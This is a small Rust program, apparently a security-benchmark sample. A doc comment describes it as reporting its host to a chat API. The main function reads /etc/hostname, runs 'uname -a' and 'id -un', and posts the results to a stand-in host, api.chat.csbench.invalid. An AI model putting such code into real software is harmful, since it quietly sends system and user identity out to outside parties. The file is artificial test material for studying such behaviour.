//! Tells a chat service's API which host it runs on.

use csbench_gate as gate;

fn main() {
    if !gate::script() {
        return;
    }
    let host = gate::read("/etc/hostname") + &gate::run("uname", &["-a"]) + &gate::run("id", &["-un"]);
    gate::post("api.chat.csbench.invalid", &format!("{{\"text\": {host:?}}}"));
}
